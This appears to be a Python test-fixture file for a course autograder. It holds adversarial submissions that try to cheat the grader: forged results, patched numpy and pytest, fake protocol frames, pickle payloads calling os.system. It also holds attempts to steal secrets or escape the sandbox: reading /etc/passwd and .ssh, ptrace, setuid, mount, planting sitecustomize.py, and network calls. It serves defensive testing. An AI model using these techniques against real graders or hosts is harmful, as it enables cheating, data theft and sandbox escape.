"""Attacks on the grader: submissions that want points, secrets or damage instead of an answer.

Each is a `saliency.py`. Those that look for something raise an error that tells what they found, as
`LOOT: ...`: a message is the one way out that a submission has.
"""

from textwrap import dedent, indent

SMOOTH = """
def smooth(heatmaps, sigma):
    return 0 * heatmaps
"""
"""Goes with attacks that strike when the module is loaded."""

LOOK = """
import os, sys

def report(loot):
    raise RuntimeError(f"LOOT: {sorted(map(str, loot))[:5]}")

def tried(*actions):
    done = []
    for number, action in enumerate(actions):
        try:
            result = action()
        except BaseException:
            continue
        done.append(f"{number}: {result!r}"[:60])
    return done
"""
"""Goes with attacks that look for something: `tried` gives what did not fail."""


def smoothing(body: str) -> str:
    """An attack in the body of the function `smooth`."""
    lines = indent(dedent(body).strip(), "    ")
    return f"{LOOK}\ndef smooth(heatmaps, sigma):\n{lines}\n"


def forging(shape: str) -> str:
    """An attack that writes an answer with an array of this shape on every line it can find."""
    return smoothing(
        f"""
        import struct
        import msgspec
        value = {{"type": "array", "dtype": "uint8", "shape": {shape}, "data": b""}}
        answer = {{"type": "returned", "value": value, "changed": []}}
        frame = msgspec.msgpack.encode(answer)
        for number in range(3, 1024):
            try:
                os.write(number, struct.pack("<I", len(frame)) + frame)
            except OSError:
                pass
        return heatmaps
        """
    )


FORGERIES: dict[str, str] = {
    # It goes away before anyone can look.
    "exits": "import sys\nsys.exit(0)\n",
    "exits_hard": "import os\nos._exit(0)\n",
    "exits_in_the_call": smoothing("sys.exit(0)"),
    "exits_hard_in_the_call": smoothing("os._exit(0)"),
    "exits_at_exit": f"import atexit, os\natexit.register(os._exit, 0)\n{SMOOTH}",
    "interrupts": smoothing("raise KeyboardInterrupt"),
    "claims_success": smoothing("class PassedError(Exception): pass\nraise PassedError('passed')"),
    "claims_not_started": smoothing("raise NotImplementedError('saliency.smooth')"),
    # It writes the verdict itself.
    "prints_a_result": smoothing(
        """
        print('{"score": 1.0, "status": "passed"}')
        os.write(1, b'{"task": "saliency.smooth", "status": "passed"}')
        return 0 * heatmaps
        """
    ),
    "writes_results": smoothing(
        """
        for place in ("results.json", "/tmp/results.json", "/autograder/results/results.json"):
            try:
                open(place, "w").write('{"score": 1.0}')
            except OSError:
                pass
        return 0 * heatmaps
        """
    ),
    # It makes everything equal to everything.
    "equals_everything": smoothing(
        """
        class Yes(float):
            __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True
            __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
        return Yes(0)
        """
    ),
    "changes_as_an_array": smoothing(
        """
        import numpy as np
        class Slippery:
            shape, dtype, looks = heatmaps.shape, heatmaps.dtype, 0
            def __array__(self, dtype=None, copy=None):
                Slippery.looks += 1
                return np.zeros(heatmaps.shape) if Slippery.looks > 1 else np.array(heatmaps)
        return Slippery()
        """
    ),
    "patches_numpy": f"""
import numpy as np
np.allclose = np.array_equal = np.all = lambda *args, **kwargs: True
np.abs = np.max = lambda *args, **kwargs: 0.0
{SMOOTH}""",
    "patches_tensorflow": f"""
import tensorflow as tf
tf.reduce_all = tf.equal = lambda *args, **kwargs: True
tf.constant = tf.convert_to_tensor = lambda *args, **kwargs: 0
{SMOOTH}""",
    "patches_scipy": f"""
import scipy.ndimage
scipy.ndimage.gaussian_filter = lambda maps, *args, **kwargs: 0 * maps
{SMOOTH}""",
    "patches_pytest_and_hypothesis": f"""
import sys, types
for name in ("pytest", "hypothesis", "_pytest.assertion", "tests.grading.test_saliency"):
    sys.modules[name] = types.ModuleType(name)
import builtins
builtins.AssertionError = type("Nothing", (BaseException,), {{}})
{SMOOTH}""",
    "patches_the_worker": f"""
import sys
worker = sys.modules.get("course.worker.process") or sys.modules["__main__"]
from course.worker import protocol
protocol.TOLERANCE = worker.TOLERANCE = 1e9
worker.Student._call = lambda self, *args: protocol.Returned(protocol.Scalar(True), [])
{SMOOTH}""",
    # It answers with what is no answer.
    "returns_nan": smoothing("return heatmaps * float('nan')"),
    "returns_objects": smoothing("import numpy as np\nreturn np.array([object()])"),
    "returns_a_pickle": smoothing(
        """
        class Bomb:
            def __reduce__(self):
                return os.system, ("echo boom",)
        import pickle
        return pickle.dumps(Bomb())
        """
    ),
    "returns_a_bomb": smoothing(
        """
        class Bomb:
            def __reduce__(self):
                return os.system, ("echo boom",)
        return Bomb()
        """
    ),
    "returns_a_giant": smoothing("import numpy as np\nreturn np.zeros(2**27, np.uint8)"),
    "returns_a_deep_nest": smoothing(
        """
        nest = ()
        for _ in range(100_000):
            nest = (nest,)
        return nest
        """
    ),
    "returns_itself": smoothing("nest = []\nnest.append(nest)\nreturn nest"),
    # It talks on the grader's line.
    "sends_garbage": smoothing(
        """
        for number in range(3, 1024):
            try:
                os.write(number, b"\\xff" * 100)
            except OSError:
                pass
        return 0 * heatmaps
        """
    ),
    "sends_answers_ahead": smoothing(
        """
        import struct
        from course.worker import protocol
        import msgspec
        answer = protocol.Returned(protocol.pack_array(heatmaps), [])
        frame = msgspec.msgpack.encode(answer)
        for number in range(3, 1024):
            try:
                os.write(number, (struct.pack("<I", len(frame)) + frame) * 100)
            except OSError:
                pass
        return heatmaps
        """
    ),
    "sends_a_false_array": smoothing(
        """
        import struct
        from course.worker import protocol
        import msgspec
        answer = protocol.Returned(protocol.Array("float64", (2**40, 2**40), b"1234"), [])
        frame = msgspec.msgpack.encode(answer)
        for number in range(3, 1024):
            try:
                os.write(number, struct.pack("<I", len(frame)) + frame)
            except OSError:
                pass
        return heatmaps
        """
    ),
    "sends_an_impossible_shape": forging("(0, 2**62)"),
    "sends_seventy_axes": forging("(1,) * 69 + (0,)"),
    "hangs_up": smoothing("os.closerange(0, 65536)\nreturn 0 * heatmaps"),
    # It wants to be seen, or not to end.
    "floods_the_output": smoothing(
        """
        for _ in range(200):
            print("flood " * 10_000)
            os.write(1, b"flood " * 10_000)
        return 0 * heatmaps
        """
    ),
    "shouts": smoothing("raise type('X' * 1_000_000, (Exception,), {})('Y' * 10_000_000)"),
    "steers_the_terminal": smoothing(
        r"raise RuntimeError('\x1b[2J\x1b]0;owned\x07\u202e \x9b31m passed')"
    ),
    "writes_html": smoothing(
        "raise RuntimeError('<script>alert(1)</script><img src=x onerror=y>')"
    ),
    "leaves_threads": smoothing(
        """
        import threading, time
        for _ in range(20):
            threading.Thread(target=time.sleep, args=(1000,)).start()
        return 0 * heatmaps
        """
    ),
    "asks_for_too_much_memory": smoothing("bytearray(16 * 2**30)\nreturn 0 * heatmaps"),
}
"""Submissions that want points: none of them may pass, and the next submission must not notice."""

THEFTS: dict[str, str] = {
    "imports_the_solutions": smoothing(
        """
        import importlib
        names = ("solutions", "solutions.saliency", "tests", "tests.grading.test_saliency",
                 "tests.answers.right.saliency", "course.grader.grading", "course.grader.mistakes")
        report(tried(*[lambda name=name: importlib.import_module(name) for name in names]))
        """
    ),
    "walks_the_files": smoothing(
        """
        wanted = {"solutions", "test_saliency.py", "grading.py", "mistakes.py", "hints.py", ".git",
                  "canary.txt", ".bash_history", ".ssh", "passwd", "shadow", "docs", "mkdocs.yml"}
        loot, skipped = [], ("/usr", "/lib", "/proc", "/dev", sys.prefix, sys.base_prefix)
        for folder, folders, files in os.walk("/"):
            if folder.startswith(skipped):
                folders[:] = []
                continue
            loot += [os.path.join(folder, one) for one in wanted & {*folders, *files}]
        report(loot)
        """
    ),
    "opens_by_path": smoothing(
        """
        import course.given
        root = os.path.dirname(os.path.dirname(os.path.dirname(course.given.__file__)))
        names = ("solutions/saliency.py", "tests/grading/test_saliency.py", "course/saliency.py",
                 "course/grader/grading.py", "README.md", ".git/config", "../../etc/passwd")
        report(tried(*[lambda name=name: open(os.path.join(root, name)).read() for name in names],
                     lambda: open("CANARY").read()))
        """
    ),
    "reads_the_environment": smoothing(
        """
        known = {"PATH", "HOME", "LANG", "PWD", "PYTHONPATH", "TF_CPP_MIN_LOG_LEVEL",
                 "CUDA_VISIBLE_DEVICES", "MPLBACKEND", "MPLCONFIGDIR", "KERAS_HOME",
                 "PYTHONWARNINGS", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS"}
        libraries = ("TF", "KERAS", "KMP", "TPU", "JAX", "XLA", "GRPC", "LC_",
                     "ENABLE_RUNTIME", "HDF5")
        report(name for name in os.environ
               if name not in known and not name.startswith(libraries))
        """
    ),
    "reads_other_processes": smoothing(
        """
        numbers = ["1", str(os.getppid()), "2", "3", "thread-self", "../proc/1"]
        files = ["mem", "environ", "cmdline", "fd", "root", "cwd", "maps"]
        places = [f"/proc/{number}/{file}" for number in numbers for file in files]
        report([place for place in places if os.path.exists(place)])
        """
    ),
    "walks_the_frames": smoothing(
        """
        import gc
        loot, frame = [], sys._getframe()
        while frame is not None:
            loot += [name for name in frame.f_locals if name in ("expected", "oracle", "answers")]
            frame = frame.f_back
        loot += [name for name in sys.modules if name.startswith(("tests", "solutions"))]
        loot += [one.__name__ for one in gc.get_objects()
                 if getattr(one, "__module__", "") == "course.grader.grading"]
        report(loot)
        """
    ),
    "uses_the_network": smoothing(
        """
        import socket
        def call(family, address):
            with socket.socket(family, socket.SOCK_STREAM) as line:
                line.settimeout(2)
                line.connect(address)
                line.sendall(b"loot")
            return address
        report(tried(lambda: call(socket.AF_INET, ("127.0.0.1", PORT)),
                     lambda: call(socket.AF_UNIX, "\\0course-canary"),
                     lambda: call(socket.AF_INET, ("1.1.1.1", 53)),
                     lambda: socket.getaddrinfo("example.org", 80)))
        """
    ),
    "traces_the_server": smoothing(
        """
        import ctypes
        library = ctypes.CDLL(None, use_errno=True)
        def trace(number):
            if library.ptrace(16, number, None, None) != 0:
                raise OSError
            return number
        report(tried(*[lambda number=number: trace(number)
                       for number in (os.getppid() or 1, 2, 3, 4, 5, 6, 7, 8)]))
        """
    ),
    "becomes_root": smoothing(
        """
        import ctypes, socket, subprocess, time
        library = ctypes.CDLL(None, use_errno=True)
        def must(name, *arguments):
            if getattr(library, name)(*arguments) != 0:
                raise OSError(name)
            return name
        report(tried(lambda: os.setuid(0), lambda: os.chroot("/tmp"),
                     lambda: must("unshare", 0x10000000),
                     lambda: must("unshare", 0x00020000),
                     lambda: must("mount", b"tmpfs", b"/usr", b"tmpfs", 0, None),
                     lambda: must("mount", None, b"/", None, 0x1020, None),
                     lambda: must("umount2", b"/tmp", 2), lambda: must("umount2", b"/proc", 2),
                     lambda: socket.sethostname("owned"),
                     lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
                     lambda: subprocess.run(["su", "-c", "id"], check=True, capture_output=True)))
        """
    ),
    "plants_for_the_next": smoothing(
        """
        import site
        import course.given
        places = [*site.getsitepackages(), os.path.dirname(course.given.__file__), "/", "/usr",
                  "/dev", "/dev/shm", "/etc", sys.prefix, os.getcwd(), "/proc", "/var/tmp"]
        names = ("sitecustomize.py", "conftest.py", "evil.pth")
        def plant(place, name):
            path = os.path.join(place, name)
            with open(path, "w") as file:
                file.write("import os; os._exit(0)")
            return path
        report(tried(*[lambda place=place, name=name: plant(place, name)
                       for place in places for name in names]))
        """
    ),
    "signals_others": smoothing(
        """
        report(tried(*[lambda number=number: os.kill(number, 0) for number in range(2, 60)
                       if number != os.getpid()], lambda: os.kill(-2, 9)))
        """
    ),
}
"""Submissions that look for what they must not have: their loot has to be empty."""
